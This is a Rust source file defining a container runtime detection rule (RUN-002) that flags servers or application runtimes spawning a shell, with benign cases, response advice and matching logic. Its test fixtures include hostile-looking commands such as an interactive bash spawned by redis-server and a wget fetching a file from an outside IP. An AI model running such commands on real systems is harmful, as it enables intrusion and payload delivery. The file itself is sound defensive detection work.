//! A server starts a shell.

use crate::runtime::prelude::*;

runtime_rule! {
    /// A server starts a shell
    ///
    /// A web server or database has no reason to start a shell. When it does, somebody has made it: by an
    /// injected command, a file that was uploaded, or a plugin. Runtimes of applications (Java, Node.js,
    /// Python) start shells now and then; there it is one hint among others.
    ///
    /// **Benign:** Entry points that start the server from a shell are the other way round and stay quiet.
    /// Log rotation and health checks of some images run `sh -c` from the server.
    ///
    /// **Respond:** Look at the request that came in at that second, and at what the shell did.
    "RUN-002" {
        severity: Medium,
        attack: Execution "T1059.004",
        on: ["exec"],
        fires: [
            r#"{exec: "sh -c id", by: nginx}"#,
            r#"{exec: "/bin/bash -i", by: redis-server}"#,
            r#"{exec: "sh -c 'wget http://203.0.113.9/x'", by: [php-fpm8.2, php-fpm8.2]}"#,
            r#"{exec: "bash", by: java}"#,
        ],
        quiet: [
            r#"{exec: "nginx -g daemon", by: sh}"#,
            r#"{exec: "sh -c 'node server.js'", by: npm}"#,
            r#"{exec: "sh -c id", by: nginx, at: host}"#,
        ],
        run: One(run),
    }
}

fn run(scene: &Scene<'_>, found: &mut Found) {
    if !scene.in_container() || !programs::is_shell(scene.program()) {
        return;
    }
    let parent = scene.parent();
    if programs::is_server(parent) {
        found.say(format!(
            "{parent} started a shell: {}",
            scene.process().command_line()
        ));
    } else if programs::is_application_runtime(parent) {
        // What is interactive waits for somebody.
        let interactive = scene.argv().len() == 1 || scene.argv().iter().any(|it| it == "-i");
        found.say(format!(
            "{parent} started a shell: {}",
            scene.process().command_line()
        ));
        if !interactive {
            found.lower_to(Severity::Low);
        }
    }
}
